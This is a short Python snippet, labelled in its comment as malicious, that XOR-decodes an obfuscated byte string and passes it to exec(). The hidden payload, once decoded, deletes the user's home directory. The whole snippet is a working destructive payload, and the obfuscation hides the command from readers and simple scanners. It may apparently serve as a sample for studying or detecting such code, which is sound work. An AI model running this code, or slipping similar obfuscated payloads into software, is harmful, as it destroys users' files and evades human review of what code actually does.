# Malicious, obfuscated: a payload XOR-ed with 0x42 is decoded and exec'd (it deletes the home directory).
key = 0x42
blob = b"+/2-06b-1H-1l1;16'/j`0/bo0$b<`kH"
exec(bytes(b ^ key for b in blob).decode())
